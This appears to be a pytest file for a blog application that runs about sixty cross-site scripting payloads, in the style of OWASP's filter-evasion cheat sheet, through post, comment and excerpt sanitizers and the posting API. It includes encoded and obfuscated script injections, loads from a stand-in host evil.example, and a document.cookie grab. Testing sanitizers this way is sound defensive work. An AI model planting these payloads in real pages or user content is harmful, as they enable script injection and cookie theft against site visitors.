"""The XSS corpus (cases in the spirit of OWASP's filter-evasion cheat sheet, written
here as our own data) never survives sanitization: not in posts, not in comments."""

from __future__ import annotations

import re

import httpx
import pytest

from tests.apps.blog.conftest import PREFIX, Caller, create_blog, create_post
from veche.apps.blog.sanitize import clean_comment_html, clean_post_html, excerpt_of

JS_URL = "javascript:alert('XSS')"

XSS_CORPUS = [
    "<script>alert('x')</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<IMG SRC=\"javascript:alert('x');\">",
    "<IMG SRC=javascript:alert('x')>",
    "<IMG SRC=JaVaScRiPt:alert('x')>",
    '<IMG SRC=`javascript:alert("x")`>',
    '<IMG """><SCRIPT>alert("x")</SCRIPT>">',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('x')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    "<img src=x onerror=&#x61;&#x6C;&#x65;&#x72;&#x74;&#x28;1&#x29;>",
    "<IMG SRC=" + "".join(f"&#{ord(c)};" for c in JS_URL) + ">",
    "<IMG SRC=" + "".join(f"&#{ord(c):07d}" for c in JS_URL) + ">",
    "<IMG SRC=" + "".join(f"&#x{ord(c):X}" for c in JS_URL) + ">",
    "<IMG SRC=\"jav\tascript:alert('x');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('x');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('x');\">",
    "<IMG SRC=\" &#14;  javascript:alert('x');\">",
    '<SCRIPT/XSS SRC="https://evil.example/x.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("x")>',
    '<<SCRIPT>alert("x");//\\<</SCRIPT>',
    "<SCRIPT SRC=//evil.example/.j>",
    "<IMG SRC=\"`<javascript:alert>`('x')\"",
    "<iframe src=http://evil.example/scriptlet.html <",
    '</TITLE><SCRIPT>alert("x");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'x\');">',
    "<BODY BACKGROUND=\"javascript:alert('x')\">",
    "<IMG DYNSRC=\"javascript:alert('x')\">",
    "<IMG LOWSRC=\"javascript:alert('x')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('x')\");}</STYLE><UL><LI>x</br>",
    "<svg/onload=alert('x')>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<BGSOUND SRC=\"javascript:alert('x');\">",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'x\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'x\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,'
    'PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    "<IFRAME SRC=\"javascript:alert('x');\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('x');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('x')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('x'))\">",
    "<DIV STYLE=\"width: expression(alert('x'));\">",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('x'))\">",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="  JaVaScRiPt:alert(1)">click</a>',
    '<a href="&#x6A;avascript:alert(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="https://ok.example" onclick="alert(1)" style="color:red">ok</a>',
    '<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH" type="image/svg+xml">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    '<base href="javascript:alert(1)//">',
    "<!--[if gte IE 4]><SCRIPT>alert('x');</SCRIPT><![endif]-->",
    '<XSS STYLE="behavior: url(xss.htc);">',
    "<p onmouseover=alert(1)>hover</p>",
    '"><script>alert(document.cookie)</script>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]

# What no sanitized output may contain, case-insensitively.
FORBIDDEN = [
    re.compile(pattern, re.IGNORECASE)
    for pattern in (
        r"<\s*script",
        r"<\s*style",
        r"<\s*iframe",
        r"<\s*frame",
        r"<\s*object",
        r"<\s*embed",
        r"<\s*svg",
        r"<\s*math",
        r"<\s*meta",
        r"<\s*link",
        r"<\s*base",
        r"<\s*form",
        r"<\s*input",
        r"<\s*body",
        r"<\s*details",
        r"<\s*video",
        r"<\s*xss",
        r"<\s*table",
        r"\son[a-z]+\s*=",
        r"javascript:",
        r"vbscript:",
        r"data:",
        r"style\s*=",
        r"expression\(",
        r"<!--",
    )
]


def assert_clean(html: str) -> None:
    for pattern in FORBIDDEN:
        assert not pattern.search(html), f"{pattern.pattern!r} survived in {html!r}"


@pytest.mark.parametrize("payload", XSS_CORPUS)
def test_sanitizers_drop_every_vector(payload: str) -> None:
    assert_clean(clean_post_html(payload))
    assert_clean(clean_comment_html(payload))
    assert_clean(excerpt_of(payload))


def test_allowed_markup_survives() -> None:
    html = (
        '<h2>Title</h2><p>Some <strong>bold</strong>, <em>em</em> and <a href="https://x.example/'
        'p?q=1" title="t">a link</a>.</p><ul><li>one</li></ul><pre><code>x &lt; y</code></pre>'
        '<img src="https://x.example/i.webp" alt="pic">'
    )
    cleaned = clean_post_html(html)
    assert (
        '<a href="https://x.example/p?q=1" title="t" rel="noopener noreferrer nofollow">' in cleaned
    )
    assert "<h2>Title</h2>" in cleaned
    assert '<img src="https://x.example/i.webp" alt="pic">' in cleaned
    assert "<code>x &lt; y</code>" in cleaned
    # Comments have no headings or images.
    assert clean_comment_html(html).startswith("Title<p>")
    assert "<img" not in clean_comment_html(html)


async def test_corpus_through_the_api(http: httpx.AsyncClient, ann: Caller, bob: Caller) -> None:
    await create_blog(http, ann)
    body = "<p>intro</p>" + "".join(XSS_CORPUS)
    post = await create_post(http, ann, body_html=body, state="published")
    assert_clean(post["body_html"])
    assert_clean(post["excerpt"])
    stored = (await http.get(f"{PREFIX}/posts/{post['id']}")).json()
    assert_clean(stored["body_html"])
    edited = await http.patch(
        f"{PREFIX}/posts/{post['id']}",
        json={"body_html": body, "excerpt": body[:500]},
        headers=ann.headers,
    )
    assert_clean(edited.json()["body_html"])
    assert_clean(edited.json()["excerpt"])
    for payload in XSS_CORPUS:
        response = await http.post(
            f"{PREFIX}/posts/{post['id']}/comments",
            json={"body_html": f"<p>ok</p>{payload}"},
            headers=bob.headers,
        )
        assert response.status_code == 201, response.text
        assert_clean(response.json()["body_html"])
    revisions = await http.get(f"{PREFIX}/posts/{post['id']}/revisions", headers=ann.headers)
    for revision in revisions.json()["items"]:
        assert_clean(revision["body_html"])
